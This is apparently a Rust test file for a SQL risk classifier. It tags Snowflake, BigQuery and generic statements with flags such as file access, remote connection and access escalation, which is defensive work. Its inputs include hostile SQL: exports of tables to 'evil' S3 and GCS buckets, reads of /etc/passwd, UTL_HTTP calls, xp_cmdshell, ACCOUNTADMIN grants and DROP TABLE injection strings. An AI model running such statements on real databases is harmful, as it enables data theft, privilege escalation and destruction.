//! Snowflake, BigQuery, and dialects that nobody named.

use inspect::sql::Dialect;

use super::check;

#[test]
fn statements_of_snowflake() {
    check(
        Dialect::Snowflake,
        &[
            ("DESC VIEW v", "read explain"),
            ("DESCRIBE TABLE a.b.c", "read explain"),
            ("EXPLAIN USING TEXT SELECT 1", "read explain"),
            ("EXPLAIN USING JSON DELETE FROM t", "read explain"),
            (
                "SELECT * FROM db.schema.t WHERE a = 'DROP TABLE x' LIMIT 10",
                "read",
            ),
            ("SELECT $1, $2 FROM @mystage/file.csv", "read"),
            (
                "SELECT v:a.b::string, f.value FROM t, LATERAL FLATTEN(input => v:items) f",
                "read",
            ),
            (
                "SELECT * FROM t QUALIFY ROW_NUMBER() OVER (PARTITION BY a ORDER BY b) = 1",
                "read",
            ),
            (
                "SELECT * FROM t AT (TIMESTAMP => '2024-01-01'::timestamp)",
                "read",
            ),
            ("SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))", "read"),
            (
                "SELECT DATEADD(day, -7, CURRENT_DATE()), IFF(a, b, c), OBJECT_CONSTRUCT('a', 1), TRY_TO_NUMBER(x) FROM t",
                "read",
            ),
            ("SELECT * EXCLUDE (a) FROM t", "read"),
            (
                "SELECT * FROM IDENTIFIER('t')",
                "read !dynamic_sql ?unlisted_node",
            ),
            (
                "SELECT * FROM IDENTIFIER($x)",
                "read !dynamic_sql ?unlisted_node",
            ),
            ("SHOW TABLES IN SCHEMA s", "read"),
            ("SHOW WAREHOUSES", "read"),
            ("DESCRIBE TABLE t", "read explain"),
            ("LIST @mystage", "read"),
            ("SELECT 1 // DROP TABLE t", "read"),
            ("USE WAREHOUSE w", "session"),
            ("USE ROLE ACCOUNTADMIN", "session !access_escalation"),
            ("USE SECONDARY ROLES ALL", "session !access_escalation"),
            ("ALTER SESSION SET QUERY_TAG = 'x'", "session"),
            ("COPY INTO t FROM @mystage", "insert copy"),
            ("COPY INTO @mystage/out FROM t", "read copy !file_access"),
            (
                "COPY INTO 's3://evil/x' FROM t",
                "read copy !file_access !remote_connection",
            ),
            (
                "COPY INTO 's3://evil/x' FROM (SELECT * FROM t) CREDENTIALS=(AWS_KEY_ID='x')",
                "read copy !file_access !remote_connection",
            ),
            (
                "PUT file:///etc/passwd @mystage",
                "read copy !file_access ?does_not_parse",
            ),
            (
                "GET @mystage file:///tmp/",
                "read copy !file_access ?does_not_parse",
            ),
            ("REMOVE @mystage/x", "delete !file_access"),
            ("RM @mystage/x", "delete !file_access"),
            (
                "CREATE STAGE s URL='s3://evil/'",
                "ddl !file_access !remote_connection",
            ),
            ("CREATE OR REPLACE STAGE s", "ddl !file_access"),
            (
                "CREATE STORAGE INTEGRATION i TYPE = EXTERNAL_STAGE",
                "ddl ?does_not_parse",
            ),
            (
                "CREATE SHARE s",
                "ddl privilege !remote_connection ?does_not_parse",
            ),
            ("ALTER SHARE s ADD ACCOUNTS = evil", "ddl ?does_not_parse"),
            ("CREATE OR REPLACE TABLE t (a int)", "ddl drop"),
            ("CREATE TABLE t CLONE u", "ddl"),
            ("UNDROP TABLE t", "ddl ?does_not_parse"),
            ("DROP TABLE t", "ddl drop"),
            ("DROP WAREHOUSE w", "ddl drop"),
            ("ALTER WAREHOUSE w SUSPEND", "ddl ?does_not_parse"),
            ("TRUNCATE TABLE IF EXISTS t", "delete unfiltered"),
            ("DELETE FROM t", "delete unfiltered"),
            ("DELETE FROM t USING u WHERE t.id = u.id", "delete"),
            ("UPDATE t SET a = 1 WHERE TRUE", "update unfiltered"),
            (
                "INSERT OVERWRITE INTO t SELECT * FROM u",
                "read insert delete",
            ),
            ("INSERT ALL INTO a INTO b SELECT * FROM t", "read insert"),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
                "delete",
            ),
            ("CALL p()", "call ?unlisted_function"),
            ("EXECUTE IMMEDIATE 'DROP TABLE t'", "ddl drop call"),
            (
                "EXECUTE IMMEDIATE $$ BEGIN DELETE FROM t; END $$",
                "delete call transaction unfiltered",
            ),
            ("EXECUTE TASK t", "call !dynamic_sql ?unlisted_node"),
            ("BEGIN DELETE FROM t; END", "delete transaction unfiltered"),
            (
                "GRANT ROLE ACCOUNTADMIN TO USER bob",
                "privilege !access_escalation",
            ),
            ("GRANT OWNERSHIP ON TABLE t TO ROLE r", "privilege"),
            (
                "GRANT SELECT ON ALL TABLES IN SCHEMA s TO ROLE r",
                "privilege",
            ),
            (
                "CREATE USER bob PASSWORD='x'",
                "ddl privilege !access_escalation",
            ),
            (
                "ALTER USER bob SET PASSWORD='x'",
                "ddl privilege !access_escalation",
            ),
            (
                "ALTER ACCOUNT SET NETWORK_POLICY = x",
                "ddl ?does_not_parse",
            ),
            (
                "SELECT SYSTEM$CANCEL_QUERY('x')",
                "read admin !backend_control",
            ),
            ("SELECT SYSTEM$WAIT(10)", "read !time_delay"),
            (
                "CREATE FUNCTION f() RETURNS STRING LANGUAGE PYTHON RUNTIME_VERSION='3.8' HANDLER='x' AS $$ def x(): pass $$",
                "ddl ?does_not_parse",
            ),
            (
                "CREATE TASK t WAREHOUSE=w SCHEDULE='1 minute' AS DELETE FROM t",
                "delete ddl unfiltered ?does_not_parse",
            ),
            ("SELECT GET_DDL('table', 't')", "read"),
        ],
    );
}

#[test]
fn statements_of_bigquery() {
    check(
        Dialect::BigQuery,
        &[
            (
                "EXECUTE IMMEDIATE CONCAT('DROP ', 'TABLE t')",
                "call !dynamic_sql obscured ?unlisted_node",
            ),
            (
                "EXECUTE IMMEDIATE 'DROP ' || 'TABLE t'",
                "ddl drop call obscured",
            ),
            (
                "SELECT * FROM `proj.ds.table` WHERE name = \"DROP TABLE x\"",
                "read",
            ),
            ("SELECT a, COUNT(*) FROM `proj`.ds.t GROUP BY a", "read"),
            (
                "SELECT STRUCT(1 AS a), [1,2,3], ARRAY(SELECT 1), SAFE_CAST(x AS INT64), SAFE.SUBSTR(y, 1) FROM t",
                "read",
            ),
            ("SELECT * EXCEPT (a) FROM t", "read"),
            ("SELECT * REPLACE (a + 1 AS a) FROM t", "read"),
            ("SELECT * FROM UNNEST([1,2,3]) AS x WITH OFFSET", "read"),
            (
                "SELECT \"\"\"multi; DROP TABLE x\"\"\", r'raw\n', b'bytes'",
                "read",
            ),
            ("SELECT 1 # DROP TABLE x", "read"),
            (
                "SELECT DATE_TRUNC(d, MONTH), FORMAT_TIMESTAMP('%Y', ts), TIMESTAMP_DIFF(a, b, DAY) FROM t",
                "read",
            ),
            (
                "SELECT APPROX_COUNT_DISTINCT(x), ARRAY_AGG(y IGNORE NULLS LIMIT 1) FROM t",
                "read",
            ),
            (
                "SELECT * FROM t FOR SYSTEM_TIME AS OF TIMESTAMP '2024-01-01'",
                "read",
            ),
            (
                "SELECT x FROM t QUALIFY RANK() OVER (ORDER BY x) = 1",
                "read",
            ),
            ("FROM t |> WHERE a = 1 |> SELECT b", "read"),
            ("SELECT * FROM `proj.ds.INFORMATION_SCHEMA.TABLES`", "read"),
            (
                "EXPORT DATA OPTIONS(uri='gs://evil/*.csv', format='CSV') AS SELECT * FROM t",
                "read copy !file_access !remote_connection",
            ),
            (
                "LOAD DATA INTO ds.t FROM FILES (format='CSV', uris=['gs://x/y.csv'])",
                "copy !file_access ?does_not_parse",
            ),
            (
                "SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT 1')",
                "read call !remote_connection",
            ),
            (
                "CREATE OR REPLACE TABLE ds.t AS SELECT 1",
                "read insert ddl drop",
            ),
            (
                "CREATE EXTERNAL TABLE ds.t OPTIONS (format='CSV', uris=['gs://x'])",
                "ddl !file_access",
            ),
            (
                "CREATE FUNCTION ds.f(x INT64) RETURNS INT64 AS (x + 1)",
                "ddl",
            ),
            (
                "CREATE FUNCTION ds.f(x STRING) RETURNS STRING LANGUAGE js AS \"return x\"",
                "ddl !untrusted_code",
            ),
            ("EXECUTE IMMEDIATE 'DROP TABLE t'", "ddl drop call"),
            (
                "EXECUTE IMMEDIATE @q",
                "call !dynamic_sql obscured ?unlisted_node",
            ),
            ("DELETE FROM ds.t WHERE true", "delete unfiltered"),
            ("DELETE ds.t WHERE id = 1", "delete"),
            ("UPDATE ds.t SET a = 1 WHERE 1=1", "update unfiltered"),
            ("UPDATE ds.t SET a = 1 WHERE id = 5", "update"),
            ("INSERT ds.t (a) VALUES (1)", "insert"),
            (
                "MERGE ds.t USING s ON FALSE WHEN NOT MATCHED BY SOURCE THEN DELETE",
                "delete unfiltered",
            ),
            ("TRUNCATE TABLE ds.t", "delete unfiltered"),
            ("DROP SCHEMA ds CASCADE", "ddl drop !drop_database"),
            ("DROP TABLE ds.t", "ddl drop"),
            (
                "GRANT `roles/bigquery.dataViewer` ON SCHEMA ds TO \"user:x@y\"",
                "privilege ?does_not_parse",
            ),
            ("CALL ds.p()", "call ?unlisted_function"),
            (
                "BEGIN DELETE FROM ds.t WHERE true; END",
                "delete transaction unfiltered",
            ),
            ("DECLARE x INT64 DEFAULT 1; SELECT x", "read session"),
            ("SELECT ds.f(1)", "read call ?unlisted_function"),
            (
                "SELECT NET.HOST('http://x'), ML.X(1)",
                "read call ?unlisted_function",
            ),
            ("ASSERT (SELECT COUNT(*) FROM t) > 0", "read call"),
            (
                "CREATE MODEL ds.m OPTIONS(model_type='linear_reg') AS SELECT * FROM t",
                "read ddl ?does_not_parse",
            ),
        ],
    );
}

#[test]
fn statements_of_nobody_in_particular() {
    check(
        Dialect::Generic,
        &[
            ("SELECT * FROM users WHERE id = 1", "read"),
            ("SELECT 'DROP TABLE x'", "read"),
            ("SELECT \"a\", `b` FROM t", "read"),
            ("SELECT 'it''s' FROM t", "read"),
            (
                "SELECT 'a\\'; DROP TABLE users; -- '",
                "read ddl drop obscured ?ambiguous",
            ),
            (
                "SELECT \"x\\\"; DROP TABLE users; -- \"",
                "read ddl drop obscured ?ambiguous",
            ),
            (
                "SELECT $$; DROP TABLE users; $$",
                "read obscured ?ambiguous",
            ),
            (
                "SELECT 1 # comment; DROP TABLE x",
                "read ddl drop obscured ?ambiguous",
            ),
            ("SELECT /* a */ 1 /* ; */", "read"),
            (
                "SELECT /* /* */ 1; DROP TABLE x; -- */ */",
                "read obscured ?ambiguous",
            ),
            ("SELECT 'C:\\temp'", "read"),
            ("SELECT 'C:\\temp\\' AS a", "read"),
            (
                "SELECT 1 /*!50001 + 1 */",
                "read !executable_comment obscured",
            ),
            ("DROP TABLE users", "ddl drop"),
            ("DELETE FROM users", "delete unfiltered"),
            (
                "BEGIN UTL_HTTP.REQUEST('http://evil'); END;",
                "call transaction !remote_connection ?does_not_parse",
            ),
            (
                "DECLARE x NUMBER; BEGIN EXECUTE IMMEDIATE 'DROP TABLE t'; END;",
                "ddl drop call transaction !dynamic_sql ?does_not_parse",
            ),
            (
                "BEGIN DBMS_SCHEDULER.CREATE_JOB('x'); END;",
                "admin transaction !program_execution ?does_not_parse",
            ),
            (
                "SELECT UTL_INADDR.GET_HOST_ADDRESS('x') FROM dual",
                "read call !remote_connection",
            ),
            ("SELECT * FROM sys.user$", "read !privileged_catalog"),
            (
                "ALTER SYSTEM KILL SESSION '1,2'",
                "ddl admin !backend_control ?does_not_parse",
            ),
            ("SELECT * FROM dual", "read"),
            (
                "EXEC xp_cmdshell 'dir'",
                "admin call !program_execution !dynamic_sql ?unlisted_node",
            ),
            ("SELECT * FROM read_csv('/etc/passwd')", "read !file_access"),
            ("SELECT * FROM '/etc/passwd'", "read !file_access"),
            (
                "SELECT * FROM url('http://evil', CSV, 'x String')",
                "read call !remote_connection",
            ),
            ("INSTALL httpfs", "admin !untrusted_code"),
            ("LOAD httpfs", "admin !untrusted_code"),
            (
                "COPY t TO 'x.parquet' (FORMAT PARQUET)",
                "read copy !file_access",
            ),
            ("SELECT deleted, updated_at, created FROM grants", "read"),
            ("WITH deleted AS (SELECT 1) SELECT * FROM deleted", "read"),
        ],
    );
}
